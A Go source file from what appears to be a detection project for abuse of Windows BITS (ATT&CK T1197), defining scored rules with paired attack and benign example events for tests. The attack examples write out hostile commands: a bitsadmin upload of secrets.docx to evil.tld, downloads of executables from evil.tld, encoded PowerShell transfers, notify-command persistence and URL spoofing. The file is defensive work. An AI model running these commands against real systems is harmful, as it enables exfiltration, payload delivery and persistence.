package hardened

// rule is one row of the rule table: an indicator an analyst sees in
// Indicators, the weight it adds to RiskScore, and the predicate over the
// extractor's facts that raises it. Every rule carries an attack example
// that must alert with it and its nearest benign twin that must do
// neither (TestRuleExamples), and docs/hardened.md's indicator table is
// generated from this table (TestDocsIndicatorTable).
type rule struct {
	name        string
	weight      int
	kind        ruleKind
	technique   string // MITRE ATT&CK technique IDs, ";"-separated
	description string
	reference   string
	when        func(f factSet) bool
	attack      example
	benign      example
}

// ruleKind says what a matching rule does to the verdict.
type ruleKind uint8

const (
	// scoring rules add their weight to RiskScore.
	scoring ruleKind = iota
	// evasion rules add their weight too, and mark indicators that only an
	// attempt to hide produces: a known-good entry never lowers an event
	// carrying one, because an allow-list an attacker could satisfy by
	// obfuscating would be an evasion vector of its own.
	evasion
	// knownGood rules are the built-in known-good entries: weight 0, they
	// cap RiskScore at knownGoodCeiling like an entry of the known-good
	// lookup, show as known_good:<name> in Indicators, and are overridden
	// (known_good_overridden:<name>) by an evasion rule. They describe
	// benign activity no lookup column can name, such as an SPL alert
	// that rests only on the SPL's own defect.
	knownGood
)

// has returns a predicate that holds when every fact is present.
func has(fs ...fact) func(factSet) bool {
	return func(s factSet) bool {
		for _, f := range fs {
			if !s.has(f) {
				return false
			}
		}
		return true
	}
}

// payload returns a predicate for a fact about what is transferred, which
// does not hold for a vendor's updater fetching from its own update hosts
// into its own folders (vendors.go).
func payload(f fact) func(factSet) bool {
	return func(s factSet) bool { return s.has(f) && !s.has(factVendorSource) }
}

// programNameOnlyTolerates are the facts spl_program_name_only allows
// beside the SPL's defect: they say nothing of BITS use (an encoded
// command alone), or they are evasions, which override the entry anyway.
// Every other fact is BITS use (a bitsadmin verb such as /resume or
// /reset, a cmdlet, a transfer, a notify command, a job) and makes the
// SPL's alert a real one.
const programNameOnlyTolerates = 1<<factSPLAlert | 1<<factSPLProgramNameOnly | 1<<factEncodedCommand |
	1<<factRenamedBitsadmin | 1<<factQuoteObfuscation | 1<<factMalformedURL | 1<<factURLUserinfo

// rules is the rule table, in the order the docs list it.
var rules = []rule{
	{"spl_alert", 50, scoring, "T1197",
		"the original T1197 SPL alerts: bitsadmin.exe, powershell.exe or pwsh.exe with a BITS transfer or notify switch, a user-writable folder, an executable extension or a non-Microsoft URL on its command line, or only the program's own .exe (the SPL's SuspiciousExt defect, which spl_program_name_only then allows). Hardened mode is never weaker than the SPL",
		"the original SPL (testdata/detection-spl.txt)",
		has(factSPLAlert),
		exBitsadminCmd(`/transfer n https://www.example.com/page.html D:\data\page.html`),
		exBitsadminCmd(`/list /allusers`)},
	{"spl_program_name_only", 0, knownGood, "T1197",
		"built-in known-good entry: the SPL alerts only because its SuspiciousExt takes the program's own name (`powershell.exe`, `bitsadmin.exe`) for an executable payload, and the event shows no BITS use (no bitsadmin verb that creates, resumes, completes or resets jobs or adds files or a notify command, no BITS cmdlet, transfer or job): `powershell.exe -c Get-Date`, `bitsadmin.exe /list`. `bitsadmin.exe /resume job` and `bitsadmin.exe /reset` stay alerts; an evasion overrides the entry",
		"testdata/detection-spl.txt and docs/detection.md (the SuspiciousExt defect)",
		func(s factSet) bool { return s.has(factSPLProgramNameOnly) && s&^programNameOnlyTolerates == 0 },
		exProcess(exBitsadmin, `bitsadmin.exe /resume job`),
		exPowerShellCmd(`-NoProfile -c Get-Date`)},

	// bitsadmin verbs.
	{"bitsadmin_download", 30, scoring, "T1197;T1105",
		"bitsadmin `/transfer`, `/addfile`, `/addfileset`, `/addfilewithranges`, `/replaceremoteprefix` (not with `/upload`)",
		"ESCU BITSAdmin Download File; Sigma File Download Via Bitsadmin",
		func(s factSet) bool { return s.has(factBitsadminTransfer) && !s.has(factBitsadminUpload) },
		exBitsadminCmd(`/transfer /Download /priority Foreground https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1197/T1197.md %temp%\bitsadmin1_flag.ps1`),
		exBitsadminCmd(`/info AtomicBITS /verbose`)},
	{"bitsadmin_upload", 40, scoring, "T1197;T1048",
		"bitsadmin `/upload`: a file leaves the machine",
		"Atomic Red Team T1197 (exfiltration)",
		has(factBitsadminUpload),
		exBitsadminCmd(`/transfer exfil /upload https://evil.tld/drop C:\Users\alice\Documents\secrets.docx`),
		exProcess(exCmd, `cmd /c bitsadmin /transfer backup /download http://fileserver.corp.local/drop D:\backup\secrets.docx`)},
	{"bitsadmin_job_control", 10, scoring, "T1197",
		"`/create`, `/resume`, `/complete`, `/setminretrydelay`, `/setcustomheaders`, `/setnoprogresstimeout`, `/takeownership`, `/setcredentials`, `/setproxysettings`, ...",
		"ESCU BITS Job Persistence",
		has(factBitsadminJobControl),
		exBitsadminCmd(`/create AtomicBITS & bitsadmin /addfile AtomicBITS https://evil.tld/a.exe C:\Users\Public\a.exe`),
		exBitsadminCmd(`/list /allusers`)},
	{"bitsadmin_reset", 10, scoring, "T1197;T1070",
		"`/reset`: cancels every job (clean-up)",
		"the SPL's HasReset",
		has(factBitsadminReset),
		exBitsadminCmd(`/transfer j https://evil.tld/a.exe C:\Users\Public\a.exe & bitsadmin /reset`),
		exBitsadminCmd(`/cancel j`)},
	{"notify_cmdline", 50, scoring, "T1197",
		"`/SetNotifyCmdLine` with a program (not `NULL`), or the COM method `SetNotifyCmdLine` in script",
		"ESCU BITS Job Persistence; Sigma Monitoring For Persistence Via BITS; Atomic Red Team T1197",
		has(factNotifyCmdline),
		exBitsadminCmd(`/setnotifycmdline AtomicBITS C:\Windows\system32\notepad.exe NULL`),
		exProcess(exCmd, `cmd /c bitsadmin /setnotifycmdline AtomicBITS NULL NULL`)},
	{"notify_flags", 10, scoring, "T1197",
		"`/SetNotifyFlags`",
		"the SPL's HasNotify",
		has(factNotifyFlags),
		exBitsadminCmd(`/SetNotifyFlags job 1 & bitsadmin /SetNotifyCmdLine job C:\Users\Public\u.exe NULL`),
		exBitsadminCmd(`/GetNotifyFlags job`)},
	{"notify_runs_interpreter", 25, scoring, "T1197;T1059",
		"the notify program (or its first argument) is cmd, `%COMSPEC%`, PowerShell, a script host or a LOLBin",
		"Sigma Monitoring For Persistence Via BITS",
		has(factNotifyInterpreter),
		exBitsadminCmd(`/SetNotifyCmdLine job %COMSPEC% "/c calc.exe"`),
		exBitsadminCmd(`/GetNotifyCmdLine job`)},
	{"notify_program_user_writable", 25, scoring, "T1197",
		"the notify program or an argument lies in a user-writable folder",
		"Elastic Persistence via BITS Job Notify Cmdline",
		has(factNotifyUserWritable),
		exBitsadminCmd(`/SetNotifyCmdLine job C:\Users\Public\upd.exe NULL`),
		exProcess(exCmd, `cmd /c bitsadmin /SetNotifyCmdLine job NULL NULL`)},

	// Processes.
	{"renamed_bitsadmin", 50, evasion, "T1197;T1036.003",
		"Sysmon `OriginalFileName` is bitsadmin.exe, the image name is not",
		"ESCU (original_file_name); Sigma",
		has(factRenamedBitsadmin),
		exProcess(`C:\Users\Public\svc.exe`, `svc.exe /list`, "OriginalFileName", "bitsadmin.exe"),
		exProcess(exBitsadmin, `bitsadmin /list`, "OriginalFileName", "bitsadmin.exe")},
	{"office_parent", 40, scoring, "T1197;T1204.002",
		"an Office application started bitsadmin or PowerShell that used BITS",
		"ESCU (Office spawning bitsadmin)",
		has(factOfficeParent),
		exBitsadminCmd(`/transfer j https://evil.tld/a.csv D:\data\a.csv`, "ParentImage", `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`),
		exProcess(exCmd, `cmd /c bitsadmin /transfer j https://evil.tld/a.csv D:\data\a.csv`)},
	{"desktopimgdownldr_download", 30, scoring, "T1197;T1105",
		"`desktopimgdownldr.exe /lockscreenurl:` (downloads through BITS)",
		"Atomic Red Team T1197 #4; LOLBAS Desktopimgdownldr",
		has(factDesktopImgDownldr),
		exProcess(`C:\Windows\System32\desktopimgdownldr.exe`, `desktopimgdownldr.exe /lockscreenurl:https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1197/T1197.md /eventName:desktopimgdownldr`),
		exProcess(`C:\Windows\System32\desktopimgdownldr.exe`, `desktopimgdownldr.exe /eventName:corp`)},

	// PowerShell.
	{"bits_cmdlet", 10, scoring, "T1197;T1059.001",
		"`Start-`, `Resume-`, `Set-`, `Complete-BitsTransfer`, `Add-BitsFile`, `New-BitsTransfer` (module-qualified too) in a command line or PowerShell log",
		"ESCU PowerShell Start-BitsTransfer",
		has(factBitsCmdlet),
		exProcess(`C:\Program Files\PowerShell\7\pwsh.exe`, `pwsh -c Start-BitsTransfer https://evil.tld/a.exe D:\data\a.exe`),
		exProcess(`C:\Program Files\PowerShell\7\pwsh.exe`, `pwsh -c Get-BitsTransfer -AllUsers`)},
	{"bits_com_object", 35, scoring, "T1197;T1559.001",
		"the BITS COM API from script: `BITS.Manager`, `BackgroundCopyManager`, `IBackgroundCopy*`, its CLSID",
		"Microsoft BITS COM reference (IBackgroundCopyManager)",
		has(factBitsCOM),
		exScriptBlock(`$m = New-Object -ComObject BITS.Manager; $j = $m.CreateJob("x"); $j.AddFile("https://evil.tld/a.exe", "C:\Users\Public\a.exe")`),
		exScriptBlock(`$m = New-Object -ComObject Shell.Application; $m.Open("https://evil.tld/a.exe")`)},
	{"encoded_command", 15, scoring, "T1197;T1027;T1059.001",
		"PowerShell `-EncodedCommand` under any accepted name: any prefix (`-e`, `-en`, `-enc`, ...), `-ec`, with `-`, `/`, en dash, em dash or horizontal bar, `-enc:payload`",
		"Sigma (encoded PowerShell)",
		has(factEncodedCommand),
		exPowerShellCmd(`-NoP -W Hidden -enc ` + exEncode(`Start-BitsTransfer -Source https://evil.tld/a.exe -Destination $env:TEMP\a.exe`)),
		exPowerShellCmd(`-NoP -W Hidden -c Get-Date`)},
	{"bits_in_encoded_command", 35, scoring, "T1197;T1027",
		"the decoded payload uses BITS",
		"(this project)",
		has(factBitsInEncoded),
		exPowerShellCmd(`-NoP -W Hidden -enc ` + exEncode(`Start-BitsTransfer -Source https://evil.tld/a.csv -Destination D:\data\a.csv`)),
		exPowerShellCmd(`-NoP -W Hidden -enc ` + exEncode(`Get-Date`))},

	// Obfuscation.
	{"quote_obfuscation", 25, evasion, "T1197;T1027.010",
		"a `\"`, `'`, `^` or backtick inside a bitsadmin switch, the program name, a BITS cmdlet name, or a URL's scheme and host (a quote after `=` or `:` opens a value and does not count)",
		"Sigma (command-line obfuscation); ATT&CK T1027.010",
		has(factQuoteObfuscation),
		exBitsadminCmd(`/ad"dfi"le job https://evil.tld/a.csv D:\data\a.csv`),
		exProcess(exCmd, `cmd /c bitsadmin /addfile job https://fileserver/a.csv "D:\data\a.csv"`)},
	{"malformed_url", 20, evasion, "T1197;T1027",
		"not `scheme://host`: `https:/host`, `https:\\\\host`, an empty host",
		"(this project)",
		has(factMalformedURL),
		exBitsadminCmd(`/transfer job https:/evil.tld/a.csv D:\data\a.csv`),
		exProcess(exCmd, `cmd /c bitsadmin /transfer job https://fileserver/a.csv D:\data\a.csv`)},
	{"url_userinfo", 25, evasion, "T1197;T1027;T1036",
		"`user@` before the host",
		"(this project)",
		has(factURLUserinfo),
		exBitsadminCmd(`/transfer job http://download.microsoft.com@evil.tld/a.csv D:\data\a.csv`),
		exProcess(exCmd, `cmd /c bitsadmin /transfer job http://download.microsoft.com/a.csv D:\data\a.csv`)},

	// The remote end.
	{"external_url", 15, scoring, "T1197;T1105",
		"a public host name that is not a vendor's update host for this transfer (vendors.go) nor Microsoft's update domains, anchored to the host; also for UNC/WebDAV hosts",
		"the SPL's ExternalDownload, host-anchored",
		payload(factHostExternal),
		exScriptBlock(`Start-BitsTransfer -Source http://evil.tld/x?.microsoft.com -Destination D:\data\x.exe`),
		exScriptBlock(`Start-BitsTransfer -Source http://fileserver/x.exe -Destination D:\data\x.exe`)},
	{"raw_ip_url", 50, scoring, "T1197;T1105",
		"a public IP literal, including a single decimal or hex number (`http://3405803783/`) and bracketed IPv6: no vendor's updater names one",
		"Sigma Suspicious Download From Direct IP Via Bitsadmin",
		has(factHostPublicIP),
		exTransfer(`http://3405803783/a.csv`),
		exTransfer(`http://10.1.2.3/a.csv`)},
	{"private_ip_url", 5, scoring, "T1197;T1570",
		"a private, loopback, link-local, CGNAT or 0/8 address",
		"(told apart from raw_ip_url)",
		has(factHostPrivateIP),
		exFileAdded(`http://10.1.2.3/a.exe`, `C:\Users\Public\a.exe`, exUser),
		exFileAdded(`http://fileserver/a.exe`, `D:\data\a.exe`, exUser)},
	{"file_sharing_domain", 35, scoring, "T1197;T1105;T1102",
		"a paste, file-sharing or tunnelling host (GitHub raw, Discord CDN, transfer.sh, pastebin, mega, workers.dev, trycloudflare, ngrok, Dropbox, Google Drive, OneDrive share, blob storage, ...)",
		"Sigma (bitsadmin and Bits-Client 16403 file-sharing rules)",
		has(factHostFileSharing),
		exTransfer(`https://cdn.discordapp.com/attachments/1/2/a.csv`),
		exTransfer(`https://www.example.com/a.csv`)},
	{"dynamic_dns_host", 35, scoring, "T1197;T1568;T1105",
		"a free dynamic-DNS name (duckdns.org, no-ip, ddns.net, hopto.org, ...)",
		"Sigma (dynamic DNS rules); ATT&CK T1568",
		has(factHostDynamicDNS),
		exTransfer(`http://update.duckdns.org/a.csv`),
		exTransfer(`http://update.example.org/a.csv`)},
	{"ftp_url", 15, scoring, "T1197;T1105;T1071.002",
		"an `ftp://` or `ftps://` source",
		"Sigma Monitoring For Persistence Via BITS",
		has(factFTP),
		exBitsadminCmd(`/transfer job ftp://evil.tld/a.csv D:\data\a.csv`),
		exProcess(exCmd, `cmd /c bitsadmin /transfer job http://fileserver/a.csv D:\data\a.csv`)},
	{"unc_source", 15, scoring, "T1197;T1105",
		"a UNC (`\\\\host\\share\\x`, `\\\\host@SSL\\DavWWWRoot\\x`) or `file://host/` source",
		"BITS supports SMB; ATT&CK T1197",
		has(factUNCSource),
		exBitsadminCmd(`/transfer job \\203.0.113.7\share\a.csv D:\data\a.csv`),
		exProcess(exCmd, `cmd /c bitsadmin /transfer job http://10.1.2.3/share/a.csv D:\data\a.csv`)},
	{"local_file_transfer", 50, scoring, "T1197",
		"the source is a local path (`C:\\...`, `%VAR%\\...`, `file:///`): a \"download\" that only exists to fire a notify command",
		"(this project; docs/detection.md)",
		has(factLocalSource),
		exTransfer(`C:\Windows\System32\calc.exe`),
		exTransfer(`https://intranet.corp.local/a.csv`)},

	// What is transferred, and where to.
	{"executable_download", 35, scoring, "T1197;T1105",
		"the source or destination file is executable or script: exe dll ps1 psm1 psd1 bat cmd vbs vbe js jse hta scr sct wsf wsh xll msi msp lnk cpl jar com pif ocx sys reg inf application appx msix chm scf, and web-shell types asp aspx asax ashx asmx cfm cgi jsp jspx war; not from a vendor's update host into its folders",
		"Sigma File With Suspicious Extension Downloaded Via Bitsadmin; Sigma Suspicious Download File Extension with BITS",
		payload(factExecutableFile),
		exTransfer(`https://evil.tld/payload.exe`),
		exFileAdded(`http://edgedl.me.gvt1.com/edgedl/release2/update2/GoogleUpdateSetup.exe`, `C:\Program Files (x86)\Google\Update\Download\GoogleUpdateSetup.exe`, `NT AUTHORITY\SYSTEM`)},
	{"archive_download", 20, scoring, "T1197;T1105",
		"an archive or disk image: zip rar 7z cab iso img vhd vhdx gz tgz tar xz bz2; not from a vendor's update host into its folders",
		"Sigma (same rules)",
		payload(factArchiveFile),
		ev2("EventCode", "60", "url", `http://203.0.113.7/a.zip`, "name", "job"),
		ev2("EventCode", "60", "url", `http://officecdn.microsoft.com/pr/492350f6-3a01-4f97-b9c0-c7c6ddf67d60/office/data/16.0.1/stream.x64.x-none.dat.cab`, "name", "job")},
	{"disguised_extension", 10, scoring, "T1197;T1036.008",
		"on a command line or in PowerShell only: an image or text extension (png jpg jpeg gif bmp txt log dat tmp)",
		"Sigma File With Suspicious Extension Downloaded Via Bitsadmin",
		has(factDisguisedFile),
		exBitsadminCmd(`/transfer job https://evil.tld/a.png D:\data\a.png`),
		exProcess(exCmd, `cmd /c bitsadmin /transfer job https://evil.tld/a.csv D:\data\a.csv`)},
	{"renamed_on_download", 15, scoring, "T1197;T1036",
		"the destination is executable and the source's extension differs",
		"(this project)",
		payload(factRenamedOnDownload),
		exScriptBlock(`Start-BitsTransfer -Source http://deploy/a.txt -Destination D:\deploy\a.msi`),
		exScriptBlock(`Start-BitsTransfer -Source http://deploy/a.msi -Destination D:\deploy\a.msi`)},
	{"download_to_user_writable", 20, scoring, "T1197;T1105",
		"the destination is in a folder any user can write (below); not a vendor's updater writing to its own folders",
		"Sigma File Download Via Bitsadmin To A Suspicious Target Folder; Sigma Download with BITS to Suspicious Folder",
		payload(factDestUserWritable),
		exPowerShellCmd(`-c Start-BitsTransfer -Source https://evil.tld/a.dat -Destination $env:TEMP\a.dat`),
		exFileAdded(`http://msedge.b.tlu.dl.delivery.mp.microsoft.com/filestreamingservice/files/0a1b2c3d`, `C:\Users\alice\AppData\Local\Temp\msedge_BITS_1234_5678\0a1b2c3d`, exUser)},

	// Who created the job (Bits-Client 3 processPath, clients.go).
	{"bits_job_from_bitsadmin", 50, scoring, "T1197",
		"the job's creator is bitsadmin.exe",
		"Sigma Suspicious Task Added by Bitsadmin",
		has(factClientBitsadmin),
		exJobCreated(exBitsadmin),
		exJobCreated(exSvchost)},
	{"bits_job_from_powershell", 20, scoring, "T1197;T1059.001",
		"the job's creator is the PowerShell family (IT scripts do this)",
		"Sigma (Bits-Client 3 rules)",
		has(factClientPowerShell),
		exJobCreated(`C:\Users\Public\powershell.exe`),
		exJobCreated(`C:\Program Files\Microsoft Intune Management Extension\Microsoft.Management.Services.IntuneWindowsAgent.exe`)},
	{"bits_job_from_lolbin", 60, scoring, "T1197;T1218",
		"the job's creator is a script host or LOLBin (wscript, cscript, mshta, rundll32, regsvr32, msbuild, desktopimgdownldr, ...): COM-driven BITS from script",
		"LOLBAS; Atomic Red Team T1197 #4",
		has(factClientLOLBin),
		exJobCreated(`C:\Windows\System32\desktopimgdownldr.exe`),
		exJobCreated(`C:\Windows\System32\wuauclt.exe`)},
	{"bits_job_from_no_business_process", 60, scoring, "T1197;T1055",
		"the job's creator is a Windows or Office application that never creates BITS jobs (notepad and other editors, Office, calc, ...): code injected into it",
		"(this project); Microsoft BITS: Who uses BITS",
		has(factClientNoBusiness),
		exJobCreated(`C:\Windows\System32\notepad.exe`),
		exJobCreated(`C:\Windows\System32\usoclient.exe`)},
	{"client_in_user_writable", 50, scoring, "T1197",
		"the job's creator lies in a user-writable folder and is not a known client (per-user OneDrive, Teams, Zoom, Slack, Spotify, Dropbox and browsers are)",
		"Elastic (user-writable clients)",
		func(s factSet) bool { return s.has(factClientUserWritable) && !s.has(factClientKnown) },
		exJobCreated(`C:\Users\alice\AppData\Local\Temp\updater.exe`),
		exJobCreated(`C:\Users\alice\AppData\Local\Microsoft\OneDrive\OneDriveStandaloneUpdater.exe`)},
	{"bits_job_from_unknown_client", 20, scoring, "T1197",
		"the job's creator is outside Windows and user-writable folders and is not a known client (an in-house agent, or something to look at)",
		"(this project)",
		func(s factSet) bool {
			return s.has(factJobCreated) && !s.any(factClientKnown, factClientWindows, factClientUserWritable,
				factClientBitsadmin, factClientPowerShell, factClientLOLBin, factClientNoBusiness)
		},
		exJobCreated(`D:\Tools\fetch.exe`).with("jobTitle", "x"),
		exJobCreated(`C:\Program Files (x86)\Google\Update\GoogleUpdate.exe`)},

	// Children of the BITS service.
	{"bits_service_child", 50, scoring, "T1197",
		"a process whose parent is the BITS service: `svchost.exe` with `-s BITS` in its command line (any child but Windows Error Reporting), or the shared `svchost.exe -k netsvcs` without `-s` (interpreter and LOLBin children only)",
		"Elastic Persistence via BITS Job Notify Cmdline",
		has(factBITSServiceChild),
		exServiceChild(`C:\Windows\System32\notepad.exe`, `C:\Windows\system32\notepad.exe`, exBITSHost),
		exServiceChild(`C:\Windows\System32\WerFault.exe`, `C:\Windows\system32\WerFault.exe -u -p 1104 -s 512`, exBITSHost)},
	{"child_is_interpreter", 20, scoring, "T1197;T1059",
		"that child is an interpreter or LOLBin (by image name or `OriginalFileName`)",
		"Elastic",
		has(factChildInterpreter),
		exServiceChild(exPowerShell, `powershell -nop -c iex(gc C:\x.txt)`, `C:\Windows\system32\svchost.exe -k netsvcs`),
		exServiceChild(`C:\Windows\System32\wuauclt.exe`, `wuauclt.exe /RunHandlerComServer`, `C:\Windows\system32\svchost.exe -k netsvcs`)},
	{"child_in_user_writable", 20, scoring, "T1197",
		"that child's image lies in a user-writable folder",
		"Elastic",
		has(factChildUserWritable),
		exServiceChild(`C:\Users\Public\upd.exe`, `C:\Users\Public\upd.exe`, exBITSHost),
		exServiceChild(`C:\Users\Public\upd.exe`, `C:\Users\Public\upd.exe`, `C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`)},
	{"svchost_child_interpreter", 25, scoring, "T1197;T1059",
		"Security 4688 has no parent command line: an interpreter or LOLBin whose parent is some svchost.exe (the Task Scheduler's are too, so it does not alert alone)",
		"(this project)",
		has(factSvchostChildInterpreter),
		example{"EventCode", "4688", "NewProcessName", exCmd, "CommandLine", `cmd.exe /c C:\Users\Public\run.bat & bitsadmin /transfer j http://203.0.113.7/a.exe C:\Users\Public\a.exe`, "SubjectUserName", "SYSTEM", "ParentProcessName", exSvchost},
		example{"EventCode", "4688", "NewProcessName", `C:\Windows\System32\dllhost.exe`, "CommandLine", `DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}`, "SubjectUserName", "SYSTEM", "ParentProcessName", exSvchost}},
}

// ev2 is an example from field, value pairs.
func ev2(kv ...string) example { return example(kv) }

// ruleSet is a set of rules (indices into rules), one bit each.
type ruleSet uint64

func init() {
	if len(rules) > 64 {
		panic("hardened: more than 64 rules do not fit a ruleSet")
	}
}

func (s *ruleSet) add(i int)     { *s |= 1 << i }
func (s ruleSet) has(i int) bool { return s&(1<<i) != 0 }

// score is the capped sum of the weights in s.
func (s ruleSet) score() int {
	total := 0
	for i := range rules {
		if s.has(i) {
			total += rules[i].weight
		}
	}
	return min(total, maxRiskScore)
}

// hasEvasion reports whether s holds a rule that blocks known-good
// suppression.
func (s ruleSet) hasEvasion() bool { return s.hasKind(evasion) }

func (s ruleSet) hasKind(k ruleKind) bool { return s&rulesOfKind[k] != 0 }

// rulesOfKind holds, per kind, the set of the rules of that kind, so that
// a verdict tests a kind in one AND.
var rulesOfKind = func() (out [knownGood + 1]ruleSet) {
	for i := range rules {
		out[rules[i].kind].add(i)
	}
	return out
}()

// risk is the RiskScore the rule table gives: the score, capped at
// knownGoodCeiling when a built-in known-good entry matched and no evasion
// did.
func (s ruleSet) risk() int {
	if s.hasKind(knownGood) && !s.hasEvasion() {
		return min(s.score(), knownGoodCeiling)
	}
	return s.score()
}

// appendIndicators appends the Indicators values of s: each rule's name,
// and a built-in known-good entry as known_good:<name>, or
// known_good_overridden:<name> beside an evasion.
func (s ruleSet) appendIndicators(dst [][]byte) [][]byte {
	overridden := s.hasEvasion()
	for i := range rules {
		switch {
		case !s.has(i):
		case rules[i].kind == knownGood && overridden:
			dst = append(dst, ruleOverriddenNames[i])
		default:
			dst = append(dst, ruleNames[i])
		}
	}
	return dst
}

// judge applies the rule table to the facts.
func judge(f factSet) ruleSet {
	var s ruleSet
	for i := range rules {
		if rules[i].when(f) {
			s.add(i)
		}
	}
	return s
}

// indicatorName is what Indicators shows for a matching rule: its name, or
// known_good:<name> for a built-in known-good entry.
func (r *rule) indicatorName() string {
	if r.kind == knownGood {
		return "known_good:" + r.name
	}
	return r.name
}

// ruleNames and ruleOverriddenNames hold each Indicators value as bytes
// once, so that Score can emit them without allocating.
var ruleNames, ruleOverriddenNames = func() (names, overridden [][]byte) {
	names = make([][]byte, len(rules))
	overridden = make([][]byte, len(rules))
	for i := range rules {
		names[i] = fullSlice(rules[i].indicatorName())
		overridden[i] = fullSlice("known_good_overridden:" + rules[i].name)
	}
	return names, overridden
}()

const (
	// AlertThreshold is the RiskScore at and above which an event is an
	// alert; the hardened saved search filters on it.
	AlertThreshold = 50
	// maxRiskScore caps the sum of the weights.
	maxRiskScore = 100
	// knownGoodCeiling is the RiskScore of an event a known-good entry
	// matches: low enough to stay out of alerts, above zero so that a
	// dashboard can still show what was allowed and why.
	knownGoodCeiling = 10
)
